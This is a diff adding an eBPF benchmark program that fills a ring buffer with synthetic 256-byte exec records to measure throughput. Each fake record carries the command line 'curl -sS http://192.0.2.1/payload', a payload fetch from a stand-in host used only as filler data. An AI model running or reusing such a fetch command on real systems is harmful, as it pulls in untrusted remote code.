@@ -1,0 +1,57 @@
+//go:build ignore
+// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
+// A source of records for measurement alone: emit writes as many exec records of 256 bytes into the ring as it is
+// asked for, each by another process. No node loads it.
+#include "scope.h"
+
+char LICENSE[] SEC("license") = "Dual BSD/GPL";
+
+#define BENCH_SIZE 256
+#define BENCH_EXE 13
+#define BENCH_CWD 7
+
+struct bench_record {
+	struct record_header header;
+	struct record_process process;
+	struct record_strings strings;
+	char data[BENCH_SIZE - sizeof(struct record_header) - sizeof(struct record_process) - sizeof(struct record_strings)];
+};
+
+struct emit_order {
+	__u32 count;
+	__u32 emitted;
+};
+
+static long emit_one(__u32 i, struct emit_order *order)
+{
+	struct bench_record *r = bpf_ringbuf_reserve(&ring, sizeof(*r), 0);
+	if (!r) {
+		count_drop(RECORD_EXEC);
+		return 0;
+	}
+	__builtin_memset(r, 0, sizeof(*r));
+	r->header.kind = RECORD_EXEC;
+	r->header.size = sizeof(*r);
+	r->header.boot = bpf_ktime_get_boot_ns();
+	r->process.pid = 100000 + i % 4096;
+	r->process.start = r->header.boot;
+	r->process.parent_pid = 1;
+	r->strings.exe_len = BENCH_EXE;
+	r->strings.args_len = sizeof(r->data) - BENCH_EXE - BENCH_CWD;
+	r->strings.cwd_len = BENCH_CWD;
+	__builtin_memcpy(r->data, "/usr/bin/curl", BENCH_EXE);
+	__builtin_memcpy(r->data + BENCH_EXE, "curl\0-sS\0http://192.0.2.1/payload", 34);
+	__builtin_memcpy(r->data + sizeof(r->data) - BENCH_CWD, "/var/me", BENCH_CWD);
+	bpf_ringbuf_submit(r, BPF_RB_NO_WAKEUP);
+	order->emitted++;
+	return 0;
+}
+
+SEC("syscall")
+int emit(struct emit_order *ctx)
+{
+	struct emit_order order = { .count = ctx->count };
+	bpf_loop(order.count, emit_one, &order, 0);
+	ctx->emitted = order.emitted;
+	return 0;
+}
